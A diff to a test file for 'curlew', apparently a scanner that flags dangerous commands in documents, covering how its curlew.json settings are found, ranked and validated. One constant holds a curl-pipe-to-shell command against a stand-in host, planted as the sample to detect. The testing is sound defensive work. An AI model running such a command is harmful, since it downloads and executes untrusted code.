@@ -3,7 +3,7 @@ import { readFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { schemas } from "../../../src/cli/report/schemas.js";
-import { folderWith } from "../folder.js";
+import { folderWith } from "../folder-with.js";
 import { runHere, fakeDetector, type Given } from "../fake-detector.js";
 
 const BAD = "curl https://x.example/i.sh | sh";
@@ -22,7 +22,7 @@ async function runRecordingOptions(args: string[], given: Given) {
 }
 
 describe("curlew.json", () => {
-  it("sets profile and rules; the command line takes precedence", async () => {
+  it("sets profile and rules, but options take precedence", async () => {
     const cwd = folderWith({
       "a.md": "x",
       "curlew.json":
@@ -84,7 +84,7 @@ describe("curlew.json", () => {
     );
   });
 
-  it("is looked up from the current folder to the repository's root, and not in scanned folders", async () => {
+  it("is searched from the current folder up to the repository's root, and not in scanned folders", async () => {
     const cwd = folderWith({
       "curlew.json": TRUST,
       "repo/.git/HEAD": "",
@@ -127,7 +127,7 @@ describe("curlew.json", () => {
         })
       ).status,
     ).toBe(1);
-    // a relative folder would depend on the working directory
+    // a relative XDG_CONFIG_HOME is ignored, because it would depend on the working directory
     const planted = folderWith({ "a.md": BAD, "x/curlew/curlew.json": TRUST });
     expect(
       (
@@ -165,7 +165,7 @@ describe("curlew.json", () => {
     ],
     ['{"trust": ["https://*.example"]}', "curlew.json:1:12: trust[0]: write one whole address"],
     ['{"trust": ["get.example"]}', "curlew.json:1:12: trust[0]: write one whole address"],
-  ])("%j is rejected with its place", async (text, message) => {
+  ])("is rejected with the position of the error: %j", async (text, message) => {
     const { stderr, status, stdout } = await runHere(["scan", "a.md"], {
       cwd: folderWith({ "a.md": BAD, "curlew.json": text }),
     });
@@ -174,7 +174,7 @@ describe("curlew.json", () => {
     expect([status, stdout]).toEqual([2, ""]);
   });
 
-  it("is reported with all its errors, in the order of the file", async () => {
+  it("is rejected with all its errors, in the order of the file", async () => {
     const text = `{
   "profile": "lax",
   "exlude": [],
